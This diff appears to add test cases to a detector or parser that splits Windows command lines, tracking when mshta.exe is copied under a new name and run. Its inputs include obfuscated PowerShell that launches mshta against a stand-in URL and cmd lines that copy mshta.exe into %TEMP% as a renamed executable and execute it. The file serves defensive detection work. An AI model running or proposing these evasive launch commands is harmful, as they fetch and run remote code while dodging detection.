@@ -293,6 +293,16 @@ static const struct {
     {"powershell -c \"& ('msh'+'ta') 'https://h.example/a'\"", NULL,
      "powershell.exe /command N:<& ('msh'+'ta') 'https://h.example/a'> n:<mshta "
      "https://h.example/a>"},
+    /* copies that a line makes and runs */
+    {"cmd /c copy /y C:\\Windows\\System32\\mshta.exe \"%TEMP%\\a b.exe\" >nul & \"%TEMP%\\a "
+     "b.exe\" x",
+     NULL,
+     "cmd.exe /c N:<copy /y C:\\Windows\\System32\\mshta.exe \"%TEMP%\\a b.exe\"> "
+     "N:<\"%TEMP%\\a b.exe\" x> of:mshta.exe"},
+    {"cmd /c copy mshta.exe b.exe & c x & b x", NULL,
+     "cmd.exe /c N:<copy mshta.exe b.exe> N:<c x> N:<b x> of:mshta.exe"},
+    {"cmd /c b x & copy mshta.exe b.exe", NULL, "cmd.exe /c N:<b x> N:<copy mshta.exe b.exe>"},
+    {"cmd /c copy notes.txt b.exe & b x", NULL, "cmd.exe /c N:<copy notes.txt b.exe> N:<b x>"},
     /* calls that start a program, or write down what is to be started */
     {"powershell [Diagnostics.Process]::Start('mshta','https://h.example/a')", NULL,
      "powershell.exe N:<[Diagnostics.Process]::Start('mshta','https://h.example/a')> n:<mshta "
